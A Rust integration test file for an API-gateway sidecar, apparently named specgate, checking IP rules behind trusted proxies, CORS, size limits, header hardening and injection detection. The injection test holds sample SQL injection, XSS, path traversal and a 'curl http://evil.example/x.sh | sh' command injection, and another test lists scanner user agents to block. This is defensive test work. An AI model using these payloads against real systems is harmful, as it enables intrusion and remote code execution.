//! Identity-free traffic policies through a running sidecar: client IP rules with and without trusted
//! proxies, bots, CORS, size limits and response hardening.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use specgate_tests::process::*;

const SPEC: &str = "tests/fixtures/sidecar/traffic.yaml";

#[test]
fn ip_rules_use_the_peer_unless_it_is_a_trusted_proxy() {
    let direct = start(SPEC, "echo");
    // The peer is 127.0.0.1, outside the allow list; what it claims to forward for is not believed.
    for claimed in ["", "10.1.2.3"] {
        let headers: &[(&str, &str)] = if claimed.is_empty() {
            &[]
        } else {
            &[("X-Forwarded-For", claimed)]
        };
        let answer = send(&direct, "GET", "/admin", headers, b"");
        assert_eq!(answer.status, 403, "claimed {claimed:?}: {}", answer.body);
        assert!(
            answer.json()["type"]
                .as_str()
                .unwrap()
                .ends_with("/ip-denied")
        );
    }
    // Other operations have no IP rule.
    assert_eq!(send(&direct, "GET", "/items", &[], b"").status, 200);

    let behind_proxy = start_with(SPEC, "echo", &["--trusted-proxy", "127.0.0.1/32"]);
    let cases = [
        ("10.1.2.3", 200),
        ("10.6.6.6", 403),              // denied wins over allowed 10.0.0.0/8
        ("203.0.113.9", 403),           // not allowed
        ("2001:db8::7", 200),           // IPv6 allowed
        ("10.1.2.3, 203.0.113.9", 403), // the rightmost untrusted hop is the client
        ("203.0.113.9, 10.1.2.3", 200), // anything left of it is the client's own claim
        ("not-an-address", 403),        // unparseable: the trusted proxy itself is the client
        ("[2001:db8::1]:4711", 200),    // ports and brackets are tolerated
    ];
    for (forwarded, status) in cases {
        let answer = send(
            &behind_proxy,
            "GET",
            "/admin",
            &[("X-Forwarded-For", forwarded)],
            b"",
        );
        assert_eq!(answer.status, status, "X-Forwarded-For: {forwarded}");
    }
    // The upstream learns the client address the sidecar decided on, not what was claimed.
    let echoed = send(
        &behind_proxy,
        "GET",
        "/items",
        &[("X-Forwarded-For", "198.51.100.1, 10.1.2.3")],
        b"",
    )
    .json();
    assert_eq!(echoed["headers"]["x-forwarded-for"], "10.1.2.3");
}

#[test]
fn scanners_and_listed_bots_are_refused_and_ordinary_clients_are_not() {
    let sidecar = start(SPEC, "echo");
    let refused = [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei",
        "EvilCrawler/2.0",       // the spec's substring, case-insensitive
        "LegacyScanner/2.1 (x)", // the spec's regex
    ];
    for agent in refused {
        let answer = send(&sidecar, "GET", "/items", &[("User-Agent", agent)], b"");
        assert_eq!(answer.status, 403, "{agent}");
        assert!(
            answer.json()["type"]
                .as_str()
                .unwrap()
                .ends_with("/bot-denied")
        );
    }
    let admitted = [
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "LegacyScanner/4.0", // outside the regex
    ];
    for agent in admitted {
        let answer = send(&sidecar, "GET", "/items", &[("User-Agent", agent)], b"");
        assert_eq!(answer.status, 200, "{agent}");
    }
}

#[test]
fn cors_preflights_are_answered_here_and_refusals_carry_cors_headers() {
    let upstream = fixed_upstream(0);
    let sidecar = start(SPEC, &format!("http://{}", upstream.address));
    let preflight = |origin: &str, method: &str, headers: &str| {
        let mut list = vec![
            ("Origin", origin),
            ("Access-Control-Request-Method", method),
        ];
        if !headers.is_empty() {
            list.push(("Access-Control-Request-Headers", headers));
        }
        send(&sidecar, "OPTIONS", "/items", &list, b"")
    };
    let ok = preflight("https://app.example.com", "POST", "content-type");
    assert_eq!(ok.status, 204, "{}", ok.body);
    assert_eq!(
        ok.header("access-control-allow-origin"),
        Some("https://app.example.com")
    );
    assert_eq!(ok.header("access-control-allow-credentials"), Some("true"));
    assert_eq!(ok.header("access-control-max-age"), Some("600"));
    let methods = ok.header("access-control-allow-methods").unwrap();
    assert!(
        methods.contains("GET") && methods.contains("POST"),
        "{methods}"
    );
    assert!(ok.header("vary").unwrap().contains("Origin"));
    assert!(
        !ok.body.contains("fixed-upstream") && ok.header("server").is_none(),
        "a preflight never reaches the upstream"
    );

    let pattern = preflight("https://eu.partner.example.com", "GET", "");
    assert_eq!(pattern.status, 204);
    for (origin, method, headers) in [
        ("https://evil.example.org", "POST", ""),
        ("https://partner.example.com.evil.org", "GET", ""),
        ("https://app.example.com", "DELETE", ""),
        ("https://app.example.com", "POST", "x-secret-header"),
    ] {
        let refused = preflight(origin, method, headers);
        assert_eq!(refused.status, 403, "{origin} {method} {headers}");
        assert_eq!(refused.header("access-control-allow-origin"), None);
    }

    // An actual request from an allowed origin gets CORS headers on the upstream's answer…
    let actual = send(
        &sidecar,
        "GET",
        "/items",
        &[("Origin", "https://app.example.com")],
        b"",
    );
    assert_eq!(actual.status, 200);
    assert_eq!(
        actual.header("access-control-allow-origin"),
        Some("https://app.example.com")
    );
    assert_eq!(
        actual.header("access-control-expose-headers"),
        Some("X-Request-Id")
    );
    // …and on specgate's own refusals, so that the browser can read them.
    let refusal = send(
        &sidecar,
        "POST",
        "/items",
        &[
            ("Origin", "https://app.example.com"),
            ("Content-Type", "application/json"),
        ],
        br#"{"name": 7}"#,
    );
    assert_eq!(refusal.status, 400);
    assert_eq!(
        refusal.header("access-control-allow-origin"),
        Some("https://app.example.com")
    );
    // A disallowed origin gets no CORS headers, only Vary.
    let other = send(
        &sidecar,
        "GET",
        "/items",
        &[("Origin", "https://evil.example.org")],
        b"",
    );
    assert_eq!(other.status, 200);
    assert_eq!(other.header("access-control-allow-origin"), None);
    assert!(other.header("vary").unwrap().contains("Origin"));
}

#[test]
fn bodies_are_limited_by_content_length_and_while_streaming() {
    let sidecar = start(SPEC, "echo");
    let json = |size: usize| format!(r#"{{"name": "{}"}}"#, "x".repeat(size - 12));
    let fits = json(1000);
    let answer = send(
        &sidecar,
        "POST",
        "/items",
        &[("Content-Type", "application/json")],
        fits.as_bytes(),
    );
    assert_eq!(answer.status, 200, "{}", answer.body);
    let too_big = json(1500);
    let answer = send(
        &sidecar,
        "POST",
        "/items",
        &[("Content-Type", "application/json")],
        too_big.as_bytes(),
    );
    assert_eq!(answer.status, 413);

    // Chunked: no length announced, counted while reading.
    let chunked = |body: &str| {
        let mut raw = String::from(
            "POST /items HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
        );
        for piece in body.as_bytes().chunks(300) {
            raw.push_str(&format!(
                "{:x}\r\n{}\r\n",
                piece.len(),
                String::from_utf8_lossy(piece)
            ));
        }
        raw.push_str("0\r\n\r\n");
        send_raw(&sidecar.address, raw.as_bytes())
    };
    assert_eq!(chunked(&fits).status, 200);
    assert_eq!(chunked(&too_big).status, 413);

    // A Content-Length that lies about a larger body: only the announced bytes are the body.
    let lying = format!(
        "POST /items HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{}",
        json(1000)
    );
    let mut stream = TcpStream::connect(&sidecar.address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    stream.write_all(lying.as_bytes()).unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    assert_eq!(
        parse_answer(&raw).status,
        413,
        "refused from the header, before reading"
    );
}

#[test]
fn expect_100_continue_is_answered_before_the_body_or_refused_at_once() {
    let sidecar = start(SPEC, "echo");
    let body = r#"{"name": "continue"}"#;
    let mut stream = TcpStream::connect(&sidecar.address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    write!(
        stream,
        "POST /items HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\nExpect: 100-continue\r\n\r\n",
        body.len()
    )
    .unwrap();
    let mut interim = [0u8; 25];
    stream.read_exact(&mut interim).unwrap();
    assert_eq!(&interim, b"HTTP/1.1 100 Continue\r\n\r\n");
    stream.write_all(body.as_bytes()).unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    assert_eq!(parse_answer(&raw).status, 200);

    // Too large: refused without asking for the body.
    let mut stream = TcpStream::connect(&sidecar.address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    stream
        .write_all(b"POST /items HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 999999\r\nExpect: 100-continue\r\n\r\n")
        .unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let answer = parse_answer(&raw);
    assert_eq!(answer.status, 413);
}

#[test]
fn long_targets_and_large_headers_are_refused() {
    let sidecar = start(SPEC, "echo");
    let long = format!("/items?{}", "q=1&".repeat(3000));
    let answer = send(&sidecar, "GET", &long, &[], b"");
    assert_eq!(answer.status, 414);
    let huge = "h".repeat(80 * 1024);
    let answer = send(&sidecar, "GET", "/items", &[("X-Big", &huge)], b"");
    assert_eq!(answer.status, 431);
}

#[test]
fn response_headers_are_removed_and_set_on_every_answer() {
    let upstream = fixed_upstream(0);
    let sidecar = start(SPEC, &format!("http://{}", upstream.address));
    let answer = send(&sidecar, "GET", "/items", &[], b"");
    assert_eq!(answer.status, 200);
    assert_eq!(
        answer.header("server"),
        None,
        "the upstream's Server is removed"
    );
    assert_eq!(answer.header("x-powered-by"), None);
    assert_eq!(answer.header("x-frame-options"), Some("SAMEORIGIN"));
    assert_eq!(answer.header("cache-control"), Some("no-store"));
    assert_eq!(
        answer.header("x-content-type-options"),
        Some("nosniff"),
        "defaults merge with the spec's own"
    );
    assert_eq!(
        answer.header("strict-transport-security"),
        None,
        "HSTS only over TLS"
    );
    let refusal = send(&sidecar, "GET", "/nowhere", &[], b"");
    assert_eq!(refusal.status, 404);
    assert_eq!(refusal.header("x-frame-options"), Some("SAMEORIGIN"));
}

#[test]
fn injections_in_parameters_and_bodies_are_refused_or_logged_as_configured() {
    let sidecar = start(SPEC, "echo");
    let search = |q: &str| {
        let target = format!("/search?q={}", percent_encode(q));
        send(&sidecar, "GET", &target, &[], b"")
    };
    for (attack, kind) in [
        ("' OR '1'='1' --", "sql-injection"),
        (
            "1 UNION SELECT username, password FROM users",
            "sql-injection",
        ),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("../../../../etc/passwd", "path-traversal"),
        (
            "x && curl http://evil.example/x.sh | sh",
            "command-injection",
        ),
    ] {
        let answer = search(attack);
        assert_eq!(answer.status, 403, "{attack}");
        let problem = answer.json();
        assert!(
            problem["type"]
                .as_str()
                .unwrap()
                .ends_with(&format!("/threat-{kind}")),
            "{attack}: {problem}"
        );
        assert!(!answer.body.contains(attack), "the value is never echoed");
    }
    for benign in [
        "O'Brien's café",
        "select a plan; drop-off at 5",
        "rock & roll",
        "https://example.com/a?b=c",
    ] {
        assert_eq!(search(benign).status, 200, "{benign}");
    }
    // A value pinned by its schema (an anchored pattern) is validated, not scanned.
    assert_eq!(
        send(&sidecar, "GET", "/search?sort=name", &[], b"").status,
        200
    );

    let post = |target: &str, body: &str| {
        send(
            &sidecar,
            "POST",
            target,
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        )
    };
    let answer = post(
        "/items",
        r#"{"name": "<script>alert(document.cookie)</script>"}"#,
    );
    assert_eq!(answer.status, 403);
    assert!(
        answer.json()["type"]
            .as_str()
            .unwrap()
            .ends_with("/threat-xss")
    );
    // `threats: {xss: log}` on this operation: forwarded, and the access log says what was seen.
    let logged = post("/comments", r#"{"text": "<script>alert(1)</script>"}"#);
    assert_eq!(logged.status, 200, "{}", logged.body);
    std::thread::sleep(Duration::from_millis(100));
    let log = sidecar.stdout.lock().unwrap().join("\n");
    let line = log
        .lines()
        .find(|l| l.contains(r#""operation":"comment""#))
        .unwrap_or_else(|| panic!("an access-log line for the comment: {log}"));
    assert!(line.contains("threat-xss"), "{line}");
    assert!(line.contains(r#""decision":"monitor""#), "{line}");
    assert!(!line.contains("<script>"), "values are never logged");
}

/// Percent-encodes everything but unreserved characters.
fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[test]
fn policies_run_in_the_documented_order_and_every_refusal_is_counted_by_reason() {
    let sidecar = start_with(
        "tests/fixtures/sidecar/order.yaml",
        "echo",
        &["--trusted-proxy", "127.0.0.1/32", "--admin", "127.0.0.1:0"],
    );
    let call = |client: &str, key: Option<&str>, query: &str| {
        let mut headers = vec![("X-Forwarded-For", client)];
        if let Some(key) = key {
            headers.push(("X-Key", key));
        }
        send(&sidecar, "GET", &format!("/orders{query}"), &headers, b"").status
    };
    // IP rules come before authentication: a denied address learns nothing about credentials.
    assert_eq!(call("203.0.113.5", None, ""), 403);
    // Authentication comes before rate limits: anonymous requests never spend a caller's budget.
    for _ in 0..3 {
        assert_eq!(call("10.0.0.1", None, ""), 401);
    }
    // Rate limits come before validation: an invalid request still spends the budget…
    assert_eq!(call("10.0.0.1", Some("order-key"), "?n=abc"), 400);
    // …so the next, valid one is over the limit.
    assert_eq!(call("10.0.0.1", Some("order-key"), "?n=1"), 429);

    let admin = sidecar.admin.as_deref().expect("admin address");
    let metrics = send_to(admin, "GET", "/metrics", &[], b"").body;
    for (reason, count) in [
        ("ip-denied", 1),
        ("unauthenticated", 3),
        ("invalid-parameters", 1),
        ("rate-limited", 1),
    ] {
        let line = format!("specgate_rejections_total{{reason=\"{reason}\"}} {count}");
        assert!(metrics.contains(&line), "{line} in:\n{metrics}");
    }
}
